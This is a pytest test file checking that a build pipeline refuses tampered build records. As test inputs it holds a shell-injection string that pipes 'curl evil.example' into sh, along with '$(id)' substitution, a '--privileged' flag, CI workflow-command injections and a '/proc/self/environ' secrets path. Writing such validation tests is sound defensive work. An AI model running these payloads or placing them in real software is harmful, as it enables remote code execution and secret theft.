"""A build record that a stranger wrote is refused before anything is done with it."""

import json
from collections.abc import Mapping
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from pipeline.build.record import LARGEST, check, read_record, without_env_file
from pipeline.errors import RecordRefused
from pipeline.models import Build, Commit, Image, build_id
from pipeline.worker.contract import ActivityContract, Contract
from pipeline.worker.settings import HostSettings

SHA = 40 * "a"
OTHER = 40 * "b"
REPOSITORY = "127.0.0.1:5000/team/speaker-id"
IMAGE = Image(digest="sha256:" + 64 * "c", repository=REPOSITORY)
RECORD = Build(
    algorithm="speaker-id",
    build_id=build_id(SHA, IMAGE.digest),
    commit=Commit(
        sha=SHA,
        time=datetime(2026, 1, 2, tzinfo=UTC),
        author="Ada",
        subject="s",
        repo="https://example.org/r",
    ),
    artifact=IMAGE,
    contract=Contract(activities=(ActivityContract(name="identify", input={}, output={}),)),
    host=HostSettings(task_queue="speaker-id", activities=("speaker_id",)),
)
SHELL = '"; curl evil.example | sh; echo "'


def changed(place: str, value: object) -> dict[str, Any]:
    """The record with one value changed, as a stranger would."""
    record: dict[str, Any] = json.loads(RECORD.model_dump_json())
    *path, last = place.split(".")
    inner = record
    for part in path:
        inner = inner[part]
    inner[last] = value
    return record


def write(folder: Path, content: Mapping[str, Any] | str | bytes) -> Path:
    file = folder / "build.json"
    text = content if isinstance(content, str | bytes) else json.dumps(content)
    file.write_bytes(text if isinstance(text, bytes) else text.encode())
    return file


def test_an_honest_record_is_read_and_taken(tmp_path: Path) -> None:
    read = read_record(write(tmp_path, RECORD.model_dump_json()))
    assert read == RECORD
    check(read, algorithm="speaker-id", sha=SHA, repository=REPOSITORY)
    check(read, algorithm=None, sha=None, repository=None)


@pytest.mark.parametrize(
    ("place", "value"),
    [
        ("algorithm", SHELL),
        ("algorithm", "speaker-id\n::add-mask::x"),
        ("build_id", SHELL),
        ("build_id", "latest"),
        ("build_id", build_id(OTHER, IMAGE.digest)),
        ("commit.sha", "main"),
        ("commit.sha", OTHER),
        ("commit.sha", "$(id)"),
        ("commit.author", 201 * "a"),
        ("artifact.digest", "latest"),
        ("artifact.digest", "sha256:" + 64 * "d"),
        ("artifact.repository", f"{REPOSITORY}:latest"),
        ("artifact.repository", f"{REPOSITORY}@{IMAGE.digest}"),
        ("artifact.repository", "--privileged"),
        ("artifact.repository", SHELL),
        ("artifact.kind", "tarball"),
        ("workers.replicas", 1_000_000),
        ("workers.docker.privileged", True),
        ("workers.docker.networks", ["container:another"]),
        ("host.grace", "for ever"),
        ("contract.activities", [{"name": "", "input": None, "output": None}]),
        ("more", "fields"),
    ],
)
def test_what_no_build_would_have_written_is_no_record(tmp_path: Path, place: str, value: object) -> None:
    with pytest.raises(RecordRefused) as refused:
        read_record(write(tmp_path, changed(place, value)))
    assert refused.value.now
    assert "evil.example" not in f"{refused.value.what}{refused.value.why}", "its text is not repeated"


@pytest.mark.parametrize(
    "content",
    [
        "",
        "null",
        "[]",
        "{}",
        "{",
        '"' * 1000,
        "[" * 100_000,
        b"\xff\xfe",
        b"\0",
        "not a record\n::stop-commands::x",
    ],
)
def test_what_is_not_a_record_at_all_is_refused(tmp_path: Path, content: str | bytes) -> None:
    with pytest.raises(RecordRefused):
        read_record(write(tmp_path, content))


def test_a_record_of_a_hundred_megabytes_is_not_read(tmp_path: Path) -> None:
    file = write(tmp_path, "")
    with file.open("wb") as opened:
        opened.truncate(100_000_000)
    with pytest.raises(RecordRefused, match="cannot be released") as refused:
        read_record(file)
    assert f"{LARGEST:,} bytes" in refused.value.why


def test_a_record_that_is_not_there_is_refused(tmp_path: Path) -> None:
    with pytest.raises(RecordRefused):
        read_record(tmp_path / "none.json")
    with pytest.raises(RecordRefused):
        read_record(tmp_path)


@pytest.mark.parametrize(
    ("place", "value", "why"),
    [
        ("algorithm", "another", "of the algorithm another"),
        ("host.task_queue", "another", "another algorithm's task queue"),
        ("workers.docker.networks", ["host"], "network of the host"),
        ("artifact.repository", "evil.example/team/speaker-id", f"not in {REPOSITORY}"),
        ("artifact.repository", "", f"not in {REPOSITORY}"),
    ],
)
def test_a_record_of_something_else_is_refused(tmp_path: Path, place: str, value: object, why: str) -> None:
    record = read_record(write(tmp_path, changed(place, value)))
    with pytest.raises(RecordRefused) as refused:
        check(record, algorithm="speaker-id", sha=SHA, repository=REPOSITORY)
    assert why in refused.value.why


def test_an_env_file_that_a_record_names_is_not_read(tmp_path: Path) -> None:
    record = read_record(write(tmp_path, changed("workers.docker.env-file", "/proc/self/environ")))
    assert without_env_file(record).workers.docker.env_file is None
    assert without_env_file(record) == RECORD


def test_a_record_of_another_commit_is_refused() -> None:
    with pytest.raises(RecordRefused, match="cannot be released") as refused:
        check(RECORD, algorithm="speaker-id", sha=OTHER, repository=None)
    assert "bbbbbbbbbbbb was asked for" in refused.value.why
